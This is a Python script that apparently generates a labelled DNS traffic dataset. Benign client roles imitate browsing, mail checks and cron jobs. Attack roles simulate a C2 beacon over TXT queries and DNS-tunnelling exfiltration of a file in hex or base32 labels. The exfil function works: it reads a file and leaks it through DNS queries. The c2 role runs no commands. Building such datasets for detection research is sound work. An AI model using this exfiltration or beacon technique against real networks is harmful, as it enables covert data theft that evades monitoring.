#!/usr/bin/python3
"""The clients of the dns-resolver dataset. Each runs inside its own network
namespace, whose /etc/resolv.conf (ip netns exec mounts
/etc/netns/NAME/resolv.conf) names the resolver; so the lookups go through
the real stub resolvers: glibc's getaddrinfo (A and AAAA in parallel, search
list, options use-vc / edns0 / single-request as each host's resolv.conf
says) for browsing hosts, dnspython's stub for the mail server and the C2.

    dnsclient.py ROLE PLAN SEED SECONDS [ARG]

Roles (benign): workstation (browsing bursts: a site by Zipf-like
popularity, its third parties as EFF's crawler saw them, sibling domains of
the same owner, internal names by the search list, some typos; think times
between visits; a 60 s host cache as browsers keep), mail (per inbound
message: PTR, forward check, two DNS blocklists, SPF/DMARC/DKIM TXT; per
outbound: MX then the exchanger's A/AAAA), periodic (NTP pool, apt mirrors,
backup: every few minutes), monitor (a fixed list every 60 s, cron-aligned),
crawler (one-off names from the long tail, A only).
Roles (attacks): c2 (TXT polls every ~60 s with 20% jitter, task results
posted as hex TXT queries), exfil-hex / exfil-base32 (ARG: the file; one
query every 5-45 s / 10-60 s).
"""
import base64
import concurrent.futures as cf
import json
import random
import socket
import sys
import time

import dns.exception
import dns.resolver
import dns.reversename


def zipf_weights(n, s=1.0):
    acc, out = 0.0, []
    for i in range(n):
        acc += 1.0 / (i + 1) ** s
        out.append(acc)
    return out


class Client:
    def __init__(self, plan, seed, seconds):
        self.p = plan
        self.rnd = random.Random(seed)
        self.end = time.time() + seconds
        self.cache = {}
        self.pool = cf.ThreadPoolExecutor(max_workers=6)
        self.res = dns.resolver.Resolver()
        self.res.lifetime = 4.0
        self.res.timeout = 2.0

    def left(self):
        return self.end - time.time()

    def sleep(self, s):
        time.sleep(max(0.0, min(s, self.left())))

    def gai(self, name, family=socket.AF_UNSPEC):
        now = time.time()
        if self.cache.get(name, 0) > now:
            return
        self.cache[name] = now + 60
        try:
            socket.getaddrinfo(name, 443, family, socket.SOCK_STREAM)
        except OSError:
            pass

    def burst(self, names, family=socket.AF_UNSPEC):
        futs = []
        for n in names:
            futs.append(self.pool.submit(self.gai, n, family))
            time.sleep(self.rnd.uniform(0.0, 0.15))
        for f in futs:
            f.result()

    def q(self, name, qtype, tcp=False):
        try:
            return self.res.resolve(name, qtype, tcp=tcp, raise_on_no_answer=False, search=False)
        except (dns.exception.DNSException, OSError):
            return None


def workstation(c, arg):
    p = c.p
    sites = p["sites"]
    cw = zipf_weights(len(sites), 1.05)
    tps = p["common_tp"]
    tw = zipf_weights(len(tps), 0.9)
    think = float(arg or 25)
    favourites = c.rnd.sample(sites[:200], 8)  # each user has habits of their own
    next_check = time.time() + c.rnd.uniform(0, 300)
    while c.left() > 0:
        r = c.rnd.random()
        if r < 0.08:
            c.burst([c.rnd.choice(["intranet", "wiki", "mail", "gitlab", "jira", "fileserver", "proxy"])])
        elif r < 0.10:  # a typo: NXDOMAIN, then glibc tries the search list
            s = c.rnd.choices(sites, cum_weights=cw)[0]
            i = c.rnd.randrange(len(s.split(".")[0]))
            c.burst([s[:i] + s[i + 1:]])
        else:
            s = c.rnd.choice(favourites) if c.rnd.random() < 0.3 else c.rnd.choices(sites, cum_weights=cw)[0]
            names = list(p["site_names"].get(s) or [s])
            c.rnd.shuffle(names)
            names = sorted(names[:3], key=lambda n: (n != s and n != "www." + s))
            tp = list(p["site_tp"].get(s, []))
            c.rnd.shuffle(tp)
            names += tp[: c.rnd.randint(1, 6)]
            names += p["groups"].get(s, [])[: c.rnd.randint(0, 2)]
            names += c.rnd.choices(tps, cum_weights=tw, k=c.rnd.randint(0, 3))
            c.burst(names)
        if time.time() > next_check:  # NetworkManager's connectivity check, every 300 s
            c.burst(["nmcheck.gnome.org"])
            next_check += 300
        c.sleep(c.rnd.expovariate(1.0 / think))


def mail(c, arg):
    p = c.p
    doms = p["mail_domains"]
    dw = zipf_weights(len(doms), 1.1)
    ips = p["sender_ips"]
    next_in, next_out = time.time(), time.time() + c.rnd.uniform(0, 30)
    while c.left() > 0:
        now = time.time()
        if now >= next_in:
            ip = c.rnd.choice(ips)
            ans = c.q(dns.reversename.from_address(ip), "PTR")
            if ans is not None and ans.rrset is not None:
                c.q(str(ans.rrset[0].target), "A")
            rev = ".".join(reversed(ip.split(".")))
            for bl in p["dnsbl"]:
                a = c.q(f"{rev}.{bl}", "A")
                if a is not None and a.rrset is not None:
                    c.q(f"{rev}.{bl}", "TXT")
            d = c.rnd.choices(doms, cum_weights=dw)[0]
            spf = c.q(d, "TXT")
            if spf is not None and spf.rrset is not None:
                for r in spf.rrset:
                    for w in b"".join(r.strings).decode().split():
                        if w.startswith("include:"):
                            c.q(w[8:], "TXT")
            c.q("_dmarc." + d, "TXT")
            if c.rnd.random() < 0.7:
                c.q("selector1._domainkey." + d, "TXT")
            next_in = now + c.rnd.expovariate(1 / 15.0)
        if now >= next_out:
            d = c.rnd.choices(doms, cum_weights=dw)[0]
            mx = c.q(d, "MX")
            if mx is not None and mx.rrset is not None:
                best = min(mx.rrset, key=lambda r: r.preference)
                c.q(str(best.exchange), "A")
                c.q(str(best.exchange), "AAAA")
            next_out = now + c.rnd.expovariate(1 / 40.0)
        c.sleep(min(next_in, next_out) - time.time())


def periodic(c, arg):
    # chrony's pool every 15 min, apt's mirrors and security every 10 min, a backup target every 5 min
    p = c.p
    jobs = [(p["periodic"][0], 900), ("deb.debian.org", 600), ("security.debian.org", 600),
            ("backup." + p["corp"], 300)]
    nxt = [time.time() + c.rnd.uniform(0, 60) for _ in jobs]
    while c.left() > 0:
        i = min(range(len(jobs)), key=lambda k: nxt[k])
        c.sleep(nxt[i] - time.time())
        if c.left() <= 0:
            break
        c.burst([jobs[i][0]])
        nxt[i] += jobs[i][1]


def monitor(c, arg):
    p = c.p
    names = ["intranet", "wiki", "mail", "gitlab", "vpn", "dc01"]
    names = [f"{n}.{p['corp']}" for n in names] + ["www." + s for s in p["sites"][:3]]
    while c.left() > 0:
        c.sleep(60 - time.time() % 60)  # cron: on the minute
        if c.left() <= 0:
            break
        for n in names:
            c.cache.clear()
            c.gai(n)


def crawler(c, arg):
    p = c.p
    names = p["longtail"] + p["mirrors"]
    c.rnd.shuffle(names)
    for n in names:
        if c.left() <= 0:
            break
        c.burst([n], socket.AF_INET)
        c.sleep(c.rnd.expovariate(1 / 6.0))


def c2(c, arg):
    a = c.p["attacks"]["beacon-txt"]["domain"]
    bot = "%08x" % c.rnd.getrandbits(32)
    alpha = "abcdefghijklmnopqrstuvwxyz234567"
    c.sleep(c.rnd.uniform(5, 30))
    while c.left() > 0:
        nonce = "".join(c.rnd.choice(alpha) for _ in range(8))
        ans = c.q(f"{nonce}.{bot}.{a}", "TXT")
        if ans is not None and ans.rrset is not None:
            try:
                task = base64.b64decode(b"".join(ans.rrset[0].strings)).decode()
            except (ValueError, UnicodeDecodeError):
                task = ""
            if "|" in task:  # a task: run nothing, post a made-up result of about its size
                tid, cmd = task.split("|", 1)
                out = (cmd + " ok " + "x" * c.rnd.randint(20, 120)).encode()
                for seq in range(0, len(out), 28):
                    c.sleep(c.rnd.uniform(0.5, 2.0))
                    c.q(f"{out[seq:seq + 28].hex()}.{seq // 28:x}.{tid}.{bot}.r.{a}", "TXT")
        c.sleep(60 * c.rnd.uniform(0.8, 1.2))


def exfil(c, enc, path):
    data = open(path, "rb").read()
    dom = c.p["attacks"]["exfil-" + enc]["domain"]
    sid = "%04x" % c.rnd.getrandbits(16)
    step = 31 if enc == "hex" else 60
    c.sleep(c.rnd.uniform(5, 20))
    for seq, off in enumerate(range(0, len(data), step)):
        if c.left() <= 0:
            break
        chunk = data[off:off + step]
        if enc == "hex":
            c.cache.clear()
            c.gai(f"{chunk.hex()}.{seq:x}.{sid}.{dom}", socket.AF_INET)
            c.sleep(c.rnd.uniform(5, 45))
        else:
            s = base64.b32encode(chunk).decode().rstrip("=").lower()
            h = (len(s) + 1) // 2
            c.q(f"{s[:h]}.{s[h:]}.{seq:x}.{sid}.{dom}", "AAAA")
            c.sleep(c.rnd.uniform(10, 60))


def main():
    role, plan, seed, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    arg = sys.argv[5] if len(sys.argv) > 5 else None
    c = Client(json.load(open(plan)), seed, seconds)
    if role.startswith("exfil-"):
        exfil(c, role[6:], arg)
    else:
        {"workstation": workstation, "mail": mail, "periodic": periodic, "monitor": monitor,
         "crawler": crawler, "c2": c2}[role](c, arg)
    c.pool.shutdown(wait=True)


if __name__ == "__main__":
    main()
